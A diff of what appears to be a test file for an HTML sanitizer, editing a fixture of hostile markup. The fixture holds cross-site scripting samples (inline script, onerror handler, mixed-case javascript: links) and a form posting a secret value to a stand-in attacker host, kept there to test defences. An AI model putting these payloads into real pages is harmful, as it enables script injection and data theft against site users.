@@ -125,7 +125,7 @@ def test_outside_links_get_noopener():
 HOSTILE_HTML = """<div id="hostile">
 <script>window.__pwned = "inline script"</script>
 <img src="nowhere.png" onerror="window.__pwned = 'onerror'">
-<a id="js-link" href="javascript:window.__pwned = 'javascript link'">a javascript: link</a>
+<a id="js-link" href="javascript:void(window.__pwned = 'javascript link')">a javascript: link</a>
 <a id="js-alert" href=" JaVaScRiPt:alert('javascript')">an alert</a>
 <iframe src="https://evil.example/frame"></iframe>
 <form id="evil-form" action="https://evil.example/steal" method="post"><input name="q" value="secret"><button id="evil-send">Send</button></form>
